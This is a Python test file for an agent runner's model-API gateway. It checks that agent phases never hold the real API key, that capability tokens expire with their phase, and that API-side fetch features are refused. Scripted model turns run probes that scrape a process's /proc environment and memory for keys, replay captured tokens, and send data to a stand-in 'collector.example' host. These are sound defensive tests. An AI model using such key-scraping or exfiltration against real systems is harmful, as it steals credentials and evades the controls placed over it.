"""Real phases through the model-API gateway: the real CLI, the scripted API behind the gateway, the
model's own Bash looking for the key, a capability outliving its phase, a refused model, 429 / 529,
usage measured at the wire, and a warm-pool CLI's capability bound to the phase that takes it."""

from __future__ import annotations

import asyncio
import hashlib
import json
import re
import secrets
import sys
import urllib.error
import urllib.request

import pytest
from support.runner_server import collect
from support.streams import PhaseCall

from helix.runner.v1 import events_pb2 as ev
from helix.runner.v1 import resources_pb2 as res
from helix.runner.v1 import runner_service_pb2 as pb
from helix_runner.offline import ApiError, Reply
from helix_runner.offline.script import Usage

pytestmark = pytest.mark.real_cli

# Run by the model's Bash: finds its Claude Code ancestor and prints that process's command line,
# every key-like string in its environment, and every key-like string in its writable memory.
PROBE = r'''
import os, re
pid = os.getppid()
while pid > 1:
    if "claude" in os.path.basename(os.readlink(f"/proc/{pid}/exe")):
        break
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
print("cli-pid", pid)
print("cli-cmdline", open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace"))
pattern = re.compile(rb"(?:sk-ant|helix-cap)-[A-Za-z0-9_-]{12,}")
print("cli-environ", sorted({m.decode() for m in pattern.findall(open(f"/proc/{pid}/environ", "rb").read())}))
found = set()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
    for line in maps:
        addr, perms = line.split()[:2]
        start, end = (int(x, 16) for x in addr.split("-"))
        if not perms.startswith("rw") or end - start > 1 << 30:
            continue
        try:
            mem.seek(start)
            found.update(m.decode() for m in pattern.findall(mem.read(end - start)))
        except OSError:
            pass
print("cli-memory", sorted(found))
'''

# Run by the model's Bash: one Messages API request to the CLI's ANTHROPIC_BASE_URL with a given key.
CALL = r'''
import json, os, sys, urllib.error, urllib.request
body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": [{"role": "user", "content": "x"}]})
request = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", data=body.encode(),
                                 headers={"x-api-key": sys.argv[1], "content-type": "application/json"})
try:
    print("status", urllib.request.urlopen(request, timeout=10).status)
except urllib.error.HTTPError as exc:
    print("status", exc.code)
'''


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def env_lines(text: str) -> dict[str, str]:
    return dict(line.split("=", 1) for line in text.splitlines() if re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", line))


def tool_outputs(events) -> list[str]:
    return [e.tool_call_finished.content_preview for e in events if e.HasField("tool_call_finished")]


def gateway_events(events) -> list:
    return [e for e in events if e.HasField("gateway")]


def status_of(gateway_url: str, capability: str) -> int:
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, "messages": []}).encode()
    request = urllib.request.Request(gateway_url + "/v1/messages", data=body,
                                     headers={"x-api-key": capability, "content-type": "application/json"})
    try:
        return urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as exc:
        return exc.code


async def test_the_phase_reaches_the_api_through_the_gateway_and_never_holds_the_key(
    claude_binary, scripted_api, runner_factory, tmp_path
):
    """Before the gateway (key-helper mode) the CLI fetched the key and the probe found it in its memory."""
    key = "sk-ant-api03-" + secrets.token_urlsafe(24)
    (tmp_path / "api-key").write_text(key + "\n")
    api = scripted_api()
    async with runner_factory(api, api_key_file=str(tmp_path / "api-key")) as runner:
        (runner.workdir / "probe.py").write_text(PROBE)
        command = f"env; {sys.executable} probe.py"
        api.set_script([Reply.tool_use("Bash", {"command": command}, usage=Usage(input_tokens=300, output_tokens=40)),
                        Reply.text("Looked.", usage=Usage(input_tokens=500, output_tokens=7,
                                                          cache_read_input_tokens=200))])
        events, result = await runner.run_phase("look around", allowed_tools=["Bash"], deadline=120)
        requests = api.message_requests()
        (output,) = tool_outputs(events)
        full = requests[1].tool_result_text()  # the whole tool output, as the model got it
        # The protection: the key is nowhere the model's commands can look.
        assert key not in full, "the real API key reached the phase"
        assert "cli-memory" in full, full
        assert key not in " ".join(result.diagnostics.argv)
        gateway_url = runner.server.egress.gateway.base_url
        proxy_port = runner.server.egress.proxy.port
        metrics = runner.server.telemetry.metrics
        # A capability is good only while its phase runs.
        capability = env_lines(full)["ANTHROPIC_API_KEY"]
        assert await asyncio.to_thread(status_of, gateway_url, capability) == 401

    assert result.status == res.PHASE_STATUS_SUCCEEDED, result.reason
    env = env_lines(full)
    capability = env["ANTHROPIC_API_KEY"]
    assert capability.startswith("helix-cap-") and env["ANTHROPIC_BASE_URL"] == gateway_url
    assert env["HTTPS_PROXY"] == env["http_proxy"] == f"http://phase:{capability}@127.0.0.1:{proxy_port}"
    assert env["NO_PROXY"] == "127.0.0.1,localhost,::1"
    assert not [name for name in env if name.startswith("ANTHROPIC_") and name not in
                ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL")]
    # The API got the key, from the gateway, on every request; the CLI sent only its capability.
    assert [r.api_key_sha256 for r in requests] == [sha256(key)] * 2
    assert result.auth_source == "ANTHROPIC_API_KEY"
    # Usage measured at the wire, per model, next to the CLI's own report.
    report = result.diagnostics.gateway
    assert report.requests == 2 and report.rate_limited == report.overloaded == 0
    (measured,) = report.models
    (reported,) = result.cost.models
    assert measured.model == reported.model and measured.requests == 2
    assert (measured.tokens.input_tokens, measured.tokens.output_tokens,
            measured.tokens.cache_read_input_tokens) == (800, 47, 200)
    assert measured.tokens == reported.tokens
    label = {"model": measured.model, "kind": "input"}
    assert metrics.registry.get_sample_value("helix_gateway_tokens_total", label) == 800
    assert output  # the tool's output reached the stream too


async def test_a_capability_dies_with_its_phase_and_is_no_other_phase_s(claude_binary, scripted_api, runner_factory):
    """Before the gateway a phase's requests reached the API with whatever key they carried."""
    api = scripted_api()
    async with runner_factory(api) as runner:
        (runner.workdir / "call.py").write_text(CALL)
        api.set_script([Reply.tool_use("Bash", {"command": "echo cap=$ANTHROPIC_API_KEY"}), Reply.text("ok")])
        events, first = await runner.run_phase("show", job_id="a", allowed_tools=["Bash"], deadline=90)
        assert first.status == res.PHASE_STATUS_SUCCEEDED, first.reason
        (shown,) = tool_outputs(events)
        capability_a = shown.strip().removeprefix("cap=")
        assert capability_a.startswith("helix-cap-")
        gateway_url = runner.server.egress.gateway.base_url
        # Phase a ended: its capability authenticates nothing, from outside or from another phase.
        assert await asyncio.to_thread(status_of, gateway_url, capability_a) == 401
        command = f"{sys.executable} call.py {capability_a}; {sys.executable} call.py $ANTHROPIC_API_KEY"
        api.set_script([Reply.tool_use("Bash", {"command": command}), Reply.text("ok")])
        events, second = await runner.run_phase("call", job_id="b", allowed_tools=["Bash"], deadline=90)
    assert second.status == res.PHASE_STATUS_SUCCEEDED, second.reason
    (output,) = tool_outputs(events)
    assert output.split() == ["status", "401", "status", "200"]
    # b's report counts its CLI's two requests and its own call, none of a's.
    assert second.diagnostics.gateway.requests == 3 and first.diagnostics.gateway.requests == 2


async def test_a_model_outside_the_project_s_allowlist_is_refused_and_the_stream_says_why(
    claude_binary, scripted_api, runner_factory
):
    """Before the allowlist the phase ran on whatever model it named."""
    api = scripted_api([Reply.text("should not be reached")])
    async with runner_factory(api, model_allowlist={"*": ["claude-haiku-*"], "trusted": ["claude-*"]}) as runner:
        events, refused = await runner.run_phase("hi", job_id="x", model="claude-sonnet-4-5", deadline=90)
        assert api.message_requests() == []
        request = pb.RunPhaseRequest(job_id="y", phase_id="p1", project_id="trusted", prompt="hi",
                                     working_dir=str(runner.workdir), options=pb.PhaseOptions(model="claude-sonnet-4-5"))
        _, trusted = await collect(runner.stub.RunPhase(request, timeout=90))
    assert refused.status == res.PHASE_STATUS_FAILED
    assert refused.api_error_status == 403
    assert "not allowed for project default" in refused.result_text, refused.result_text
    (event,) = gateway_events(events)
    assert event.gateway.kind == ev.GATEWAY_EVENT_KIND_MODEL_REFUSED and event.gateway.model == "claude-sonnet-4-5"
    assert refused.diagnostics.gateway.model_refusals == 1
    assert list(refused.diagnostics.gateway.allowed_models) == ["claude-haiku-*"]
    assert trusted.status == res.PHASE_STATUS_SUCCEEDED, trusted.reason  # another project's allowlist


async def test_429_and_529_are_seen_as_they_happen(claude_binary, scripted_api, runner_factory):
    """Each answer is an event in the phase's stream before the CLI's own retry line, counted in
    the result, and visible in InspectPhase while the phase still runs."""
    api = scripted_api([ApiError(429, retry_after=0), ApiError(529),
                        Reply.tool_use("Bash", {"command": "echo held"}), Reply.text("done")])
    async with runner_factory(api) as runner:
        phase = PhaseCall(runner.stub, "rl", "p", runner.workdir, allowed_tools=["Bash"],
                          breakpoints=[res.Breakpoint(tool_name="Bash")])
        hit = await phase.control(ev.CONTROL_EVENT_KIND_BREAKPOINT_HIT, 60)
        inspection = (await runner.stub.InspectPhase(pb.InspectPhaseRequest(**phase.ids()), timeout=10)).inspection
        await runner.stub.ResolveToolCall(pb.ResolveToolCallRequest(
            **phase.ids(), tool_use_id=hit.control.tool_use_id, approve=pb.ApproveDecision()), timeout=10)
        result = await phase.finish(90)
    assert result.status == res.PHASE_STATUS_SUCCEEDED, result.reason
    seen = gateway_events(phase.events)
    assert [(e.gateway.kind, e.gateway.http_status) for e in seen] == [
        (ev.GATEWAY_EVENT_KIND_RATE_LIMITED, 429), (ev.GATEWAY_EVENT_KIND_OVERLOADED, 529)]
    retries = [e for e in phase.events if e.HasField("api_retry")]
    assert retries and seen[0].sequence < retries[0].sequence  # the gateway saw it first
    assert seen[0].gateway.request_id.startswith("req_scripted")
    assert inspection.gateway.rate_limited == 1 and inspection.gateway.overloaded == 1
    report = result.diagnostics.gateway
    assert (report.rate_limited, report.overloaded, report.requests) == (1, 1, 4)


async def test_a_warm_pool_cli_s_capability_is_bound_to_the_phase_that_takes_it(
    claude_binary, scripted_api, runner_factory, tmp_path
):
    api = scripted_api([Reply.text("warm through the gateway")])
    workdir = tmp_path / "work"
    workdir.mkdir(exist_ok=True)
    async with runner_factory(api, warm_pool={"size": 1, "working_dir": str(workdir),
                                              "options": {"model": "claude-sonnet-4-5"}}) as runner:
        pool = runner.server.service.warm_pool
        gateway_url = runner.server.egress.gateway.base_url
        for _ in range(1200):
            if pool._ready:
                break
            await asyncio.sleep(0.05)
        waiting = pool._ready[0].env["ANTHROPIC_API_KEY"]
        # Issued, but no phase's yet: it authenticates nothing.
        assert await asyncio.to_thread(status_of, gateway_url, waiting) == 401
        events, result = await runner.run_phase("hi", job_id="warm", model="claude-sonnet-4-5", deadline=120)
        assert pool.taken == 1
        assert await asyncio.to_thread(status_of, gateway_url, waiting) == 401  # revoked with its phase
    assert result.status == res.PHASE_STATUS_SUCCEEDED, result.reason
    assert result.result_text == "warm through the gateway"
    assert result.diagnostics.gateway.requests == 1



# Run by the model's Bash: a Messages request per feature that makes the API reach out, sent to the
# CLI's ANTHROPIC_BASE_URL with its own capability, as a hostile tool would (issue 30.4).
REACH_OUT = r'''
import json, os, urllib.error, urllib.request
image = {"type": "image", "source": {"type": "url", "url": "https://collector.example/?data=secret"}}
bodies = {
    "url_sources": {"messages": [{"role": "user", "content": [image]}]},
    "file_sources": {"messages": [{"role": "user", "content": [
        {"type": "document", "source": {"type": "file", "file_id": "file_011"}}]}]},
    "web_fetch": {"messages": [{"role": "user", "content": "x"}], "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    "web_search": {"messages": [{"role": "user", "content": "x"}], "tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    "code_execution": {"messages": [{"role": "user", "content": "x"}],
                       "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
    "mcp_servers": {"messages": [{"role": "user", "content": "x"}], "mcp_servers": [{"type": "url", "url": "https://m.example", "name": "m"}]},
    "container": {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "file_012"}]}]},
    "nested_url": {"messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [image]}]}]},
}
for name, extra in bodies.items():
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, **extra}).encode()
    request = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", data=body,
                                     headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"], "content-type": "application/json"})
    try:
        status = urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as exc:
        status = exc.code
    print(name, status)
'''


async def test_a_tool_cannot_make_the_api_reach_out_with_its_cli_s_capability(claude_binary, scripted_api, runner_factory):
    """Issue 30.4: before, every one of these went through to the API (status 200 from the scripted
    API), each an API-side fetch or connector call the tool chose. The CLI's own requests still pass."""
    api = scripted_api()
    async with runner_factory(api) as runner:
        (runner.workdir / "reach.py").write_text(REACH_OUT)
        script = [Reply.tool_use("Bash", {"command": f"{sys.executable} reach.py"}), Reply.text("Tried.")]
        api.set_script(script)
        events, result = await runner.run_phase("reach out", job_id="r", allowed_tools=["Bash"], deadline=120)
        api.set_script(script)
        allowed_events, allowed = await runner.run_phase("reach out", job_id="w", allowed_tools=["Bash"],
                                                         api_features=["web_search"], deadline=120)
    assert result.status == res.PHASE_STATUS_SUCCEEDED, result.reason  # the CLI's own requests passed
    (output,) = tool_outputs(events)
    statuses = dict(line.split() for line in output.splitlines() if line.strip())
    assert statuses == {name: "400" for name in (
        "url_sources", "file_sources", "web_fetch", "web_search", "code_execution", "mcp_servers", "container",
        "nested_url")}, output
    refusals = [e.gateway for e in gateway_events(events)]
    assert len(refusals) == 8 and all(g.kind == ev.GATEWAY_EVENT_KIND_FEATURE_REFUSED for g in refusals)
    assert "refused url_sources at messages[0].content[0]" in refusals[0].message
    assert result.diagnostics.gateway.feature_refusals == 8
    # Allowed by name for one phase: that feature alone goes through.
    (allowed_output,) = tool_outputs(allowed_events)
    assert dict(line.split() for line in allowed_output.splitlines() if line.strip())["web_search"] == "200"
    assert allowed.diagnostics.gateway.feature_refusals == 7
